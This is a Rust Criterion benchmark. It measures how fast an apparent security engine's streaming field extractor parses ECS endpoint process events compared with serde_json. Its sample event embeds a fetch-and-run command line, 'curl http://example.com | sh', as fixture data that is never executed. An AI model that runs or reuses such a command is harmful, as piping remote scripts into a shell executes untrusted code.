//! Event parsing throughput: extracting registered fields with the streaming
//! parser versus building a full `serde_json::Value` per event.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use engine::event::EventOptions;
use engine::field::FieldTable;
use engine::schema::Schema;

fn sample_event(i: usize) -> String {
    format!(
        r#"{{"@timestamp":"2023-07-14T08:09:{:02}.123456Z","event":{{"category":["process"],"type":["start"],"action":"exec","kind":"event","module":"endpoint","dataset":"endpoint.events.process","id":"MoO9X/ApYSmMnhVA++++{i}"}},"process":{{"pid":{},"ppid":1,"name":"bash","executable":"/usr/bin/bash","command_line":"bash -c 'curl http://example.com | sh'","args":["bash","-c","curl http://example.com | sh"],"args_count":3,"working_directory":"/home/user","entity_id":"Zjk0NjA3NTgtYzQ5Ny00YzNlLWEwODktNWI3M2I1NzIxNzI5","parent":{{"pid":1,"name":"systemd","executable":"/usr/lib/systemd/systemd","entity_id":"abc"}},"hash":{{"md5":"1d1b7b4c3e2a7b6e5a4d3c2b1a0f9e8d","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}}},"host":{{"name":"web-01","hostname":"web-01","os":{{"type":"linux","family":"debian","kernel":"5.15.0","name":"Ubuntu","version":"22.04"}},"ip":["10.0.0.5","fe80::1"],"mac":["00-11-22-33-44-55"],"architecture":"x86_64","id":"8d3f2e1a"}},"user":{{"name":"root","id":"0","group":{{"name":"root","id":"0"}}}},"agent":{{"type":"endpoint","version":"8.9.0","id":"f1e2d3c4","name":"web-01"}},"ecs":{{"version":"8.0.0"}},"message":"Endpoint process event","data_stream":{{"dataset":"endpoint.events.process","namespace":"default","type":"logs"}}}}"#,
        i % 60,
        1000 + i
    )
}

fn bench_parse(c: &mut Criterion) {
    let schema = Schema::ecs();
    let mut table = FieldTable::with_defaults(&schema);
    for path in [
        "process.name",
        "process.parent.name",
        "process.args",
        "host.os.type",
        "event.type",
        "user.name",
        "process.pid",
    ] {
        table.register(path, &schema);
    }
    let events: Vec<String> = (0..1000).map(sample_event).collect();
    let bytes: usize = events.iter().map(String::len).sum();
    let opts = EventOptions::default();

    let mut group = c.benchmark_group("parse_event");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("streaming_extract", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(ev) = table.parse_event(e, &opts) {
                    n += ev.fields().count();
                }
            }
            n
        })
    });
    group.bench_function("serde_json_value", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(serde_json::Value::Object(m)) =
                    serde_json::from_str::<serde_json::Value>(e)
                {
                    n += m.len();
                }
            }
            n
        })
    });
    // The floor: validating the JSON while keeping nothing.
    group.bench_function("serde_ignored_any", |b| {
        b.iter(|| {
            events
                .iter()
                .filter(|e| serde_json::from_str::<serde::de::IgnoredAny>(e).is_ok())
                .count()
        })
    });
    group.finish();
    eprintln!("average event size: {} bytes", bytes / events.len());
}

criterion_group!(benches, bench_parse);
criterion_main!(benches);
